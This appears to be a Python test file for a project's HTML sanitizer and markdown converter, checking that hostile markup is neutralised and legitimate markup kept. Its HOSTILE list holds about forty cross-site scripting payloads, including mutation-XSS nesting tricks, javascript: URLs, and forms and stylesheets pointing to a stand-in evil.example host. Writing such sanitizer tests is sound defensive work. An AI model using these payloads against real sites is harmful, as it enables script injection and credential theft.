from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from everfair.gateways.markup import MarkupTooLong, clean_html, to_html, to_text
from everfair.gateways.tables import read_rows

from .judge import faults

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;ava\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<textarea></p><script>alert(1)</script>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<p class='overlay' id='submit' name='x' style='position:fixed'>x</p>",
    "<div><p><table><tr><p><li><b><i></p></b>x",
    "<a href='https://ok.example' target=_blank rel=opener onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<td colspan=99999999 rowspan='1\" onclick=alert(1)'>x",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<p>>a</p//><a/href='https://a.example'/onclick=alert(1)>",
    "</p></div></body></html><script>alert(1)</script>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_comes_out_harmless(html: str) -> None:
    for cleaned in (
        clean_html(html),
        clean_html(f"<table><td>{html}"),
        to_html(html),
        to_html(f"> {html}\n\n{html}"),
    ):
        assert faults(cleaned) == []
        assert clean_html(cleaned) == cleaned


@given(st.lists(st.sampled_from(HOSTILE) | st.text("<>/'\"= ab&;!-", max_size=12), max_size=6).map("".join))
def test_pieces_of_hostile_html_in_any_order_come_out_harmless(html: str) -> None:
    cleaned = clean_html(html)
    assert faults(cleaned) == []
    assert clean_html(cleaned) == cleaned


@given(st.text())
def test_any_text_as_markdown_comes_out_harmless(text: str) -> None:
    assert faults(to_html(text)) == []


def test_what_may_stay_stays() -> None:
    html = (
        "<p>One <strong>two</strong> <em>three</em> <a href='https://a.example/?b=1&amp;c=2'>four</a></p>"
        '<ul><li>five</li></ul><table><tbody><tr><td colspan="2">six</td></tr></tbody></table>'
    )
    assert clean_html(html) == (
        "<p>One <strong>two</strong> <em>three</em> "
        '<a href="https://a.example/?b=1&amp;c=2" rel="noopener nofollow ugc">four</a></p>'
        '<ul><li>five</li></ul><table><tbody><tr><td colspan="2">six</td></tr></tbody></table>'
    )


def test_words_outlive_the_tags_around_them() -> None:
    html = "<div class='row'><section>One</section><font color=red>two</font><form>three</form></div>"
    assert clean_html(html) == "Onetwothree"


def test_links_to_nowhere_and_empty_remains_are_gone() -> None:
    html = "<p><a href='/stands/x'><b>Ours</b></a><p> </p><p><a href='https://a.example'><img src=x></a>"
    assert clean_html(html) == "<p><b>Ours</b></p>"


def test_links_inside_links_keep_the_outer_one() -> None:
    html = "<a href='https://a.example'>one<table><td><a href='https://b.example'>two</a></table></a>"
    cleaned = clean_html(html)
    assert cleaned.count("<a ") == cleaned.count("</a>") == 1
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h1>a</h1><h2>b</h2><h3>c</h3>", "<h3>a</h3><h4>b</h4><h4>c</h4>"),
        ("<h3>a</h3><h4>b</h4>", "<h3>a</h3><h4>b</h4>"),
        ("<h5>b</h5><h4>a</h4>", "<h4>b</h4><h3>a</h3>"),
    ],
)
def test_headings_sink_below_the_pages_own(html: str, expected: str) -> None:
    assert clean_html(html) == expected


def test_markdown_as_people_write_it() -> None:
    assert to_html("# 我们\n\n**咨询** 与 [网站](https://a.example)\n第二行\n\n- 一\n- 二\n\n## Next") == (
        "<h3>我们</h3>\n"
        '<p><strong>咨询</strong> 与 <a href="https://a.example" rel="noopener nofollow ugc">网站</a><br>\n'
        "第二行</p>\n"
        "<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n<h4>Next</h4>"
    )


def test_markdown_tables_and_no_pictures() -> None:
    html = to_html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n![logo](https://a.example/x.png)")
    assert "<td>2</td>" in html
    assert "img" not in html
    assert "style" not in html


def test_html_inside_markdown_is_shown_not_obeyed() -> None:
    assert to_html("a <b>bold</b>") == "<p>a &lt;b&gt;bold&lt;/b&gt;</p>"


@pytest.mark.parametrize("tag", ["<div>", "<b>", "<table><tr><td>", "<svg><math>", "<p><ul><li>"])
def test_towers_of_tags_are_flattened(tag: str) -> None:
    assert clean_html(tag * 5_000 + "word") == "word"


def test_endless_texts_are_refused_in_words() -> None:
    for convert in (clean_html, to_html, to_text):
        with pytest.raises(MarkupTooLong, match="Shorten it"):
            convert("a" * 200_001)


@pytest.mark.realdata
def test_every_page_of_two_real_fairs_comes_out_clean(shared_data: Path) -> None:
    seen = 0
    for row in read_rows(shared_data / "exhibitors/fosdem-stands").rows():
        texts = [value for value in row.values.values() if isinstance(value, str)]
        texts += [page["body"] for page in row.values["pages"] or ()]
        for text in texts:
            cleaned = clean_html(text)
            assert faults(cleaned) == []
            assert faults(to_html(text)) == []
            assert clean_html(cleaned) == cleaned
            assert to_text(text) or not clean_html(text)
            seen += 1
    assert seen > 500
